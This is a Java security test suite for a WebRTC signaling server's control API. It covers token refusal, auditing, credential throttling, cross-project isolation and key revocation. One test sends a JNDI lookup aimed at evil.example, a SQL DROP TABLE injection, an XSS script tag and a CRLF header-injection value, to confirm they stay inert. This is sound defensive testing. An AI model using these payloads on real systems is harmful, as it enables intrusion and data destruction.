package dev.chorus.signaling.api;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.chorus.signaling.project.KeyState;
import dev.chorus.signaling.project.RoomState;
import dev.chorus.signaling.testing.ControlFixture;
import dev.chorus.signaling.ws.WsCloseCodes;
import dev.chorus.signaling.ws.WsTestClient;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * SECURITY-CHECKLIST 14, 15, 24–28 (and the revocation close of 8) against the real control edge: real Netty
 * HTTPS/WSS on 127.0.0.1, real store, verifier and audit trail. Each refusal asserts the answer, that no state was
 * created, and the audit events it wrote.
 */
class EdgeSecurityTest {
    static final ObjectMapper JSON = new ObjectMapper();
    static final String MINT = "{\"room\":\"room-a\",\"identity\":\"user-1\",\"scopes\":[\"room:join\",\"media:subscribe\"]}";

    EdgeHarness h;

    @BeforeEach
    void start() throws Exception {
        h = new EdgeHarness();
    }

    @AfterEach
    void stop() {
        h.close();
    }

    private String mint(String body) throws Exception {
        return h.mint(body);
    }

    private static JsonNode json(String s) throws Exception {
        return JSON.readTree(s);
    }

    private void awaitSessions(int n) throws InterruptedException {
        for (int i = 0; i < 100 && h.edge.sessions().size() != n; i++) Thread.sleep(20);
        assertThat(h.edge.sessions().size()).isEqualTo(n);
    }

    @Test
    void mintOverHttpsThenJoinOverWss() throws Exception {
        String token = mint(MINT);
        try (WsTestClient c = h.ws().join("room-a", token)) {
            JsonNode joined = json(c.next());
            assertThat(joined.get("type").asText()).isEqualTo("joined");
            assertThat(joined.get("room").asText()).isEqualTo("room-a");
            assertThat(joined.get("participantId").asText()).startsWith("p_");
            assertThat(joined.get("rights").toString()).isEqualTo("[\"room:join\",\"media:subscribe\"]");
            awaitSessions(1);
            HttpResponse<String> list = h.get("/v1/rooms/room-a/participants", h.acmeBasic());
            assertThat(json(list.body()).get("participants").get(0).get("identity").asText()).isEqualTo("user-1");
        }
        assertThat(h.metrics.scrape()).contains("chorus_tokens_minted_total 1.0", "chorus_joins_admitted_total 1.0");
    }

    // ---- 14: refused tokens over the WebSocket: closed 4003, nothing created, one audit event each ----

    @Test
    void expiredForgedAndWrongRoomTokensAreRefusedAndAuditedOnceEach() throws Exception {
        ControlFixture fx = h.fx;
        ObjectNode expired = fx.claims();
        long now = fx.clock.instant().getEpochSecond();
        expired.put("iat", now - 1200).put("nbf", now - 1200).put("exp", now - 600);
        ObjectNode newRoom = fx.claims().put("room", "room-new");
        String forged = fx.es256(newRoom);
        forged = forged.substring(0, forged.lastIndexOf('.') + 1) + ControlFixture.b64(new byte[64]);
        record Case(String room, String token, String reason) {}
        for (Case k : List.of(new Case("room-a", fx.es256(expired), "expired"),
                new Case("room-new", forged, "bad_signature"),
                new Case("room-b", fx.es256(fx.claims()), "wrong_room"))) {
            int before = h.audit().size();
            try (WsTestClient c = h.ws().join(k.room(), k.token())) {
                assertThat(c.awaitClose(5).code()).as(k.reason()).isEqualTo(WsCloseCodes.JOIN_REFUSED);
            }
            List<String> events = h.auditSince(before);
            assertThat(events).as(k.reason()).hasSize(1);
            assertThat(events.getFirst()).contains("\"action\":\"join\"", "\"outcome\":\"refused\"",
                    "\"reason\":\"" + k.reason() + "\"");
            assertThat(h.edge.sessions().size()).isZero();
        }
        assertThat(fx.store.room(ControlFixture.PROJECT, "room-new")).isEmpty();
        assertThat(h.metrics.scrape()).contains("chorus_joins_refused_total{reason=\"wrong_room\"} 1.0");
    }

    @Test
    void joinTimeoutAndNonJoinFirstMessageAreAuditedOnceAndCreateNothing() throws Exception {
        int before = h.audit().size();
        try (WsTestClient c = h.ws()) {
            assertThat(c.awaitClose(5).code()).isEqualTo(WsCloseCodes.JOIN_TIMEOUT);
        }
        try (WsTestClient c = h.ws().send("{\"type\":\"offer\"}")) {
            assertThat(c.awaitClose(5).code()).isEqualTo(WsCloseCodes.BAD_JOIN);
        }
        List<String> events = h.auditSince(before);
        assertThat(events).hasSize(2);
        assertThat(events.get(0)).contains("\"reason\":\"join_timeout\"");
        assertThat(events.get(1)).contains("\"reason\":\"bad_join\"");
        assertThat(h.edge.sessions().size()).isZero();
    }

    // ---- 15: tokens never in a log line or an audit event ----

    @Test
    void tokensNeverAppearInLogsOrTheAuditTrail() throws Exception {
        String good = mint(MINT);
        String wrongRoom = mint(MINT.replace("room-a", "room-b"));
        try (WsTestClient ok = h.ws().join("room-a", good); WsTestClient bad = h.ws().join("room-a", wrongRoom)) {
            ok.next();
            bad.awaitClose(5);
        }
        String sig = good.substring(good.lastIndexOf('.') + 1);
        String sig2 = wrongRoom.substring(wrongRoom.lastIndexOf('.') + 1);
        assertThat(String.join("\n", h.audit())).doesNotContain(sig, sig2, h.fx.hsSecret);
        assertThat(String.join("\n", h.logLines())).doesNotContain(sig, sig2, h.fx.hsSecret);
    }

    // ---- 24: credentials ----

    @Test
    void missingOrWrongCredentialsAre401AndRepeatedFailuresAre429AllAudited() throws Exception {
        int before = h.audit().size();
        HttpResponse<String> none = h.get("/v1/rooms", null);
        assertThat(none.statusCode()).isEqualTo(401);
        assertThat(json(none.body()).at("/error/code").asText()).isEqualTo("unauthorized");
        assertThat(none.headers().firstValue("www-authenticate")).isPresent();
        HttpResponse<String> wrong = h.get("/v1/rooms", EdgeHarness.basic(h.fx.hsKid, "not-the-secret"));
        assertThat(wrong.statusCode()).isEqualTo(401);
        assertThat(h.auditSince(before)).hasSize(2).allSatisfy(l -> assertThat(l).contains("\"action\":\"backend.auth\"",
                "\"outcome\":\"refused\""));
        int status = 0;
        for (int i = 0; i < 20 && status != 429; i++) {
            status = h.get("/v1/rooms", EdgeHarness.basic(h.fx.hsKid, "guess-" + i)).statusCode();
        }
        assertThat(status).isEqualTo(429);
        // Throttled: even the right secret is not checked now.
        HttpResponse<String> right = h.get("/v1/rooms", h.acmeBasic());
        assertThat(right.statusCode()).isEqualTo(429);
        assertThat(right.headers().firstValue("retry-after")).isPresent();
        assertThat(h.audit().getLast()).contains("\"reason\":\"throttled\"");
        assertThat(String.join("\n", h.audit())).doesNotContain("not-the-secret", "guess-");
    }

    // ---- 25: another project's resources are "not found", audited ----

    @Test
    void anotherProjectsRoomsAndKeysAre404AndUntouched() throws Exception {
        assertThat(h.get("/v1/rooms/room-b", h.acmeBasic()).statusCode()).isEqualTo(200);
        int before = h.audit().size();
        HttpResponse<String> r = h.get("/v1/rooms/room-b", h.globexBasic());
        assertThat(r.statusCode()).isEqualTo(404);
        assertThat(json(r.body()).at("/error/code").asText()).isEqualTo("not_found");
        assertThat(h.post("/v1/rooms/room-b/close", h.globexBasic(), null).statusCode()).isEqualTo(404);
        assertThat(h.post("/v1/keys/" + h.fx.esKid + "/revoke", h.globexBasic(), null).statusCode()).isEqualTo(404);
        assertThat(h.get("/v1/keys/" + h.fx.esKid, h.globexBasic()).statusCode()).isEqualTo(404);
        assertThat(h.fx.store.room(ControlFixture.PROJECT, "room-b").orElseThrow().state()).isEqualTo(RoomState.OPEN);
        assertThat(h.fx.store.key(h.fx.esKid).orElseThrow().state()).isEqualTo(KeyState.ACTIVE);
        List<String> events = h.auditSince(before);
        // Room ids are per-project names: globex has no room-b (not_found); acme's key is cross_project.
        assertThat(events).hasSize(4).allSatisfy(l -> assertThat(l).contains("\"outcome\":\"refused\"")
                .containsPattern("\"reason\":\"(not_found|cross_project)\""));
        assertThat(events.get(2)).contains("\"reason\":\"cross_project\"");
        // and the key list only shows the caller's own keys
        assertThat(h.get("/v1/keys", h.globexBasic()).body()).doesNotContain(h.fx.esKid, h.fx.hsKid);
    }

    // ---- 26: TTL above the project's max ----

    @Test
    void ttlAboveTheProjectMaximumIs400AndAuditedWithoutAToken() throws Exception {
        int before = h.audit().size();
        HttpResponse<String> r = h.post("/v1/tokens", h.acmeBasic(), MINT.replace("}", ",\"ttlSeconds\":7200}"));
        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(json(r.body()).at("/error/code").asText()).isEqualTo("ttl_too_long");
        assertThat(r.body()).doesNotContain("token\"");
        assertThat(h.auditSince(before)).singleElement().asString().contains("\"action\":\"token.mint\"", "\"outcome\":\"refused\"");
        assertThat(h.post("/v1/tokens", h.acmeBasic(), MINT.replace("}", ",\"ttlSeconds\":3600}")).statusCode()).isEqualTo(201);
    }

    // ---- 27: hostile text is inert ----

    @Test
    void hostileIdentitiesAndRoomsAreStoredAndLoggedAsInertText() throws Exception {
        String jndi = "${jndi:ldap://evil.example/a} %s%n%x '; DROP TABLE keys;-- <script>alert(1)</script>";
        HttpResponse<String> ok = h.post("/v1/rooms", h.acmeBasic(), JSON.writeValueAsString(java.util.Map.of("room", jndi)));
        assertThat(ok.statusCode()).as(ok.body()).isEqualTo(201);
        assertThat(json(ok.body()).get("room").asText()).isEqualTo(jndi);
        assertThat(h.fx.store.room(ControlFixture.PROJECT, jndi)).isPresent();
        assertThat(h.fx.store.keys(ControlFixture.PROJECT)).hasSize(3); // no SQL ran
        HttpResponse<String> crlf = h.post("/v1/tokens", h.acmeBasic(),
                "{\"room\":\"room-a\",\"identity\":\"user\\r\\nX-Injected: 1\",\"scopes\":[\"room:join\"]}");
        assertThat(crlf.statusCode()).isEqualTo(400);
        assertThat(crlf.headers().firstValue("x-injected")).isEmpty();
        for (String line : h.audit()) {
            assertThat(json(line).isObject()).isTrue(); // one complete JSON object per line: CR/LF stayed escaped
        }
        for (String line : h.logLines()) assertThat(line).doesNotContain("\r", "\n");
    }

    // ---- 28: oversized bodies, wrong content types, unknown fields, malformed JSON ----

    @Test
    void badBodiesAre4xxWithAReasonAndCreateNothing() throws Exception {
        String auth = h.acmeBasic();
        record Case(String contentType, String body, int status, String code) {}
        for (Case k : List.of(
                new Case("text/plain", "{\"room\":\"r-x\"}", 415, "unsupported_media_type"),
                new Case(null, "{\"room\":\"r-x\"}", 415, "unsupported_media_type"),
                new Case("application/json; charset=iso-8859-1", "{\"room\":\"r-x\"}", 415, "unsupported_media_type"),
                new Case("application/json", "{\"room\":\"r-x\",\"admin\":true}", 400, "unknown_field"),
                new Case("application/json", "{\"room\":", 400, "malformed_json"),
                new Case("application/json", "{\"room\":\"r-x\"} trailing", 400, "malformed_json"),
                new Case("application/json", "{\"room\":\"r-x\",\"room\":\"r-y\"}", 400, "malformed_json"),
                new Case("application/json", "{\"room\":42}", 400, "invalid_field"),
                new Case("application/json", "", 400, "empty_body"),
                new Case("application/json", "{\"room\":\"" + "x".repeat(5000) + "\"}", 413, "body_too_large"))) {
            HttpResponse<String> r = h.call("POST", "/v1/rooms", auth, k.contentType(), k.body());
            assertThat(r.statusCode()).as(k.toString()).isEqualTo(k.status());
            assertThat(json(r.body()).at("/error/code").asText()).as(k.toString()).isEqualTo(k.code());
            assertThat(json(r.body()).at("/error/message").asText()).isNotBlank();
        }
        assertThat(h.fx.store.rooms(ControlFixture.PROJECT)).noneMatch(r -> r.roomId().startsWith("r-"));
        HttpResponse<String> ttlAsString = h.post("/v1/tokens", auth, MINT.replace("}", ",\"ttlSeconds\":\"600\"}"));
        assertThat(json(ttlAsString.body()).at("/error/code").asText()).isEqualTo("invalid_field");
    }

    /** Issue 15 finding 10 and the fuzzing finding on null selectors: each is a 400 and mints nothing. */
    @Test
    void mintBodiesWithFractionalTtlNegativeLimitsOrNullSelectorsAre400() throws Exception {
        String auth = h.acmeBasic();
        int before = h.audit().size();
        for (String extra : List.of(",\"ttlSeconds\":1.5", ",\"ttlSeconds\":600.0", ",\"ttlSeconds\":1e3",
                ",\"policy\":{\"maxTracks\":-5}", ",\"policy\":{\"maxKbps\":-1}",
                ",\"policy\":{\"maxTracks\":2.5}", ",\"policy\":{\"subscribe\":{\"allow\":[null]}}",
                ",\"policy\":{\"subscribe\":{\"deny\":[null,\"grp:a\"]}}",
                ",\"policy\":{\"subscribe\":{\"allow\":[\"nobody\"]}}")) {
            HttpResponse<String> r = h.post("/v1/tokens", auth, MINT.replace("}", extra + "}"));
            assertThat(r.statusCode()).as(extra).isEqualTo(400);
            assertThat(json(r.body()).at("/error/code").asText()).as(extra).isIn("invalid_field", "invalid_request");
            assertThat(r.body()).doesNotContain("\"token\"");
        }
        assertThat(h.auditSince(before)).noneMatch(l -> l.contains("\"action\":\"token.mint\"")
                && l.contains("\"outcome\":\"success\""));
        HttpResponse<String> ok = h.post("/v1/tokens", auth,
                MINT.replace("}", ",\"ttlSeconds\":60,\"policy\":{\"maxTracks\":0,\"maxKbps\":500}}"));
        assertThat(ok.statusCode()).as(ok.body()).isEqualTo(201);
    }

    // ---- keys API and live revocation (checklist 8: sessions admitted with a revoked key close) ----

    @Test
    void keysCanBeCreatedRotatedRetiredAndRevokingClosesTheirSessions() throws Exception {
        HttpResponse<String> created = h.post("/v1/keys", h.acmeBasic(), "{\"algorithm\":\"HS256\",\"scopes\":[\"keys:admin\"]}");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        JsonNode c = json(created.body());
        String newKid = c.at("/key/kid").asText();
        String newSecret = c.get("secret").asText();
        assertThat(h.get("/v1/keys", EdgeHarness.basic(newKid, newSecret)).body()).contains(newKid, h.fx.hsKid);
        HttpResponse<String> rotated = h.post("/v1/keys/" + h.fx.esKid + "/rotate", EdgeHarness.basic(newKid, newSecret), null);
        assertThat(rotated.statusCode()).as(rotated.body()).isEqualTo(201);
        assertThat(json(rotated.body()).has("privateKeyPem")).isTrue();
        assertThat(h.fx.store.key(h.fx.esKid).orElseThrow().state()).isEqualTo(KeyState.RETIRING);

        String token = mint(MINT); // signed by the acme HS256 key
        try (WsTestClient s = h.ws().join("room-a", token)) {
            assertThat(s.next()).contains("joined");
            HttpResponse<String> revoked = h.post("/v1/keys/" + h.fx.hsKid + "/revoke", EdgeHarness.basic(newKid, newSecret), null);
            assertThat(json(revoked.body()).get("state").asText()).isEqualTo("revoked");
            long t0 = System.nanoTime();
            assertThat(s.awaitClose(5).code()).isEqualTo(WsCloseCodes.REVOKED);
            assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(Duration.ofSeconds(1));
        }
        try (WsTestClient again = h.ws().join("room-a", token)) {
            assertThat(again.awaitClose(5).code()).isEqualTo(WsCloseCodes.JOIN_REFUSED);
        }
        assertThat(h.get("/v1/rooms", h.acmeBasic()).statusCode()).isEqualTo(401);
    }

    @Test
    void closingARoomClosesItsSessions() throws Exception {
        String token = mint(MINT);
        try (WsTestClient s = h.ws().join("room-a", token)) {
            assertThat(s.next()).contains("joined");
            assertThat(h.post("/v1/rooms/room-a/close", h.acmeBasic(), null).statusCode()).isEqualTo(200);
            assertThat(s.awaitClose(5).code()).isEqualTo(WsCloseCodes.REVOKED);
        }
        awaitSessions(0);
    }

    @Test
    void aParticipantCanBeRemovedByItsProjectOnly() throws Exception {
        String token = mint(MINT);
        try (WsTestClient s = h.ws().join("room-a", token)) {
            String pid = json(s.next()).get("participantId").asText();
            int before = h.audit().size();
            // globex has a room-a of its own, but this participant is not in it
            assertThat(h.post("/v1/rooms/room-a/participants/" + pid + "/remove", h.globexBasic(), null).statusCode())
                    .isEqualTo(404);
            assertThat(s.closedWithin(200)).isFalse();
            HttpResponse<String> r = h.post("/v1/rooms/room-a/participants/" + pid + "/remove", h.acmeBasic(), null);
            assertThat(r.statusCode()).isEqualTo(200);
            assertThat(s.awaitClose(5).code()).isEqualTo(WsCloseCodes.REVOKED);
            List<String> events = h.auditSince(before);
            assertThat(events).hasSize(2);
            assertThat(events.get(0)).contains("\"action\":\"participant.remove\"", "\"outcome\":\"refused\"");
            assertThat(events.get(1)).contains("\"action\":\"participant.remove\"", "\"outcome\":\"success\"");
        }
        awaitSessions(0);
    }
}
